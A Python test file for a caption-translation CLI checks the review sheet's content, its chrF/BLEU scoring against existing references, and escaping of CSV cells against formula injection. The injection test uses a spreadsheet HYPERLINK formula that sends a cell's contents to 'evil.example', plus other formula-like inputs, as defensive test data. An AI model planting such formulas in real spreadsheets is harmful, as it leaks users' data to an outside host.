"""`--sample N`: the review sheet, and chrF/BLEU against the references that exist."""

from __future__ import annotations

import csv

import pytest
import sacrebleu
from typer.testing import CliRunner

from clipit.cli.main import app
from clipit.data.translate import run
from tests.support.libre_server import fake_translate
from tests.support.translate_data import libre_config, write_manifest

# Rows 0-3 come with an Italian reference (as in MSCOCO-IT or the synthetic set); rows 4-7 need translating.
ENGLISH = [
    "a red dog",
    "a blue car",
    "the big house",
    "a man in the park",
    "a cat",
    "a tree",
    "the street",
    "a car",
]
REFERENCES = ["[it] un rosso cane", "una macchina blu", "[it] il grande casa", "un uomo nel parco"]


def _sheet(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_review_sheet_scores_against_references_only(server, tmp_path):
    write_manifest(
        tmp_path / "in" / "manifest.parquet",
        ENGLISH,
        caption=[*REFERENCES, None, None, None, None],
        lang=["it"] * 4 + [None] * 4,
    )
    cfg = libre_config(server, tmp_path, sample=8)

    summary = run(cfg)

    sheet = _sheet(tmp_path / "out" / "manifest.review.csv")
    assert sorted(row["caption_en"] for row in sheet) == sorted(ENGLISH)
    by_text = {row["caption_en"]: row for row in sheet}
    for english, reference in zip(ENGLISH[:4], REFERENCES, strict=True):
        assert by_text[english]["reference"] == reference
    for row in sheet:
        assert row["machine_translation"] == fake_translate(row["caption_en"])
        assert row["rating_1_to_5"] == ""
    assert all(by_text[text]["reference"] == "" for text in ENGLISH[4:])
    # the sheet's own hypothesis/reference pairs, scored by sacrebleu in the same orientation
    hyps = [fake_translate(text) for text in ENGLISH[:4]]
    assert summary.scores["rows"] == 4
    assert summary.scores["chrF"] == sacrebleu.corpus_chrf(hyps, [REFERENCES]).score
    assert summary.scores["BLEU"] == sacrebleu.corpus_bleu(hyps, [REFERENCES]).score
    assert 0 < summary.scores["chrF"] < 100
    html = (tmp_path / "out" / "manifest.review.html").read_text()
    assert f"chrF {summary.scores['chrF']:.1f}" in html
    assert "un uomo nel parco" in html
    # the reference rows keep their caption; only rows 4-7 were filled
    assert summary.rows_selected == 4

    # on the translated manifest, our own machine captions are never taken as references
    again = run(cfg.model_copy(update={"input": cfg.output, "output": tmp_path / "again.parquet"}))
    assert again.requests == 0
    sheet = {row["caption_en"]: row for row in _sheet(tmp_path / "again.review.csv")}
    assert all(sheet[text]["reference"] == "" for text in ENGLISH[4:])
    assert again.scores["rows"] == 4


def test_identical_references_score_100(server, tmp_path):
    write_manifest(
        tmp_path / "in" / "manifest.parquet",
        ENGLISH[:3],
        caption=[fake_translate(t) for t in ENGLISH[:3]],
        lang=["it"] * 3,
    )
    summary = run(libre_config(server, tmp_path, sample=2))
    assert summary.scores["chrF"] == pytest.approx(100.0)
    assert summary.scores["BLEU"] == pytest.approx(100.0)
    assert summary.scores["rows"] == 2
    assert len(_sheet(tmp_path / "out" / "manifest.review.csv")) == 2


def test_review_csv_cells_never_run_as_spreadsheet_formulas(server, tmp_path):
    """OWASP's CSV-injection rule: a cell starting with = + - @ (or tab, CR) gets a leading quote."""
    english = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1 a red dog",
        "-2 a cat",
        "@SUM(A1:A9) a car",
    ]
    references = ["=1+2", "\tuna macchina", "\run gatto", "una casa"]
    write_manifest(tmp_path / "src" / "manifest.parquet", english, caption=references, lang=["it"] * 4)
    result = CliRunner().invoke(
        app,
        ["translate", "--input", str(tmp_path / "src"), "--to", "it", "--backend", "libre",
         "--endpoint", server.url, "--sample", "4", "--set", f"translate.cache={tmp_path / 'c.sqlite'}"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    sheet = {row["key"]: row for row in _sheet(tmp_path / "src" / "manifest.review.csv")}
    rows = [sheet[f"cc3m/{i:06d}"] for i in range(4)]
    assert [row["caption_en"] for row in rows] == ["'" + text for text in english]
    assert [row["reference"] for row in rows] == ["'=1+2", "'\tuna macchina", "'\run gatto", "una casa"]
    assert all(row["machine_translation"].startswith("[it] ") for row in rows)  # safe cells unchanged
    html = (tmp_path / "src" / "manifest.review.html").read_text()
    assert "=1+2" in html and "'=1+2" not in html  # the HTML is not a spreadsheet: shown as written
